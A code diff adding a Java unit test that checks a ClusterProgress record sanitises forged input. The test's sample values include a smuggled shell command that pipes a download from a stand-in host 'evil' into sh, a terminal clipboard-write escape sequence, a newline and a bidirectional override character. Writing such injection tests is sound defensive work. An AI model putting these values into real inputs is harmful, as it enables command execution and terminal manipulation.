@@ -62,6 +62,17 @@ class ModelTest {
         .noneMatch(ClusterProgress::hasEnded);
   }
 
+  @Test
+  void aReportedClusterIsNoCommandAndNoEscapeSequence() {
+    // when
+    ClusterProgress forged =
+        new ClusterProgress("x; curl evil|sh #", "a\u001b]52;c;\u0007", "Re\njected", null, "m\u202e");
+
+    // then
+    assertThat(forged)
+        .isEqualTo(new ClusterProgress("unnamed", "a ]52;c; ", "Re jected", null, "m "));
+  }
+
   private static ClusterProgress in(String state) {
     return new ClusterProgress("x", "p", state, null, null);
   }
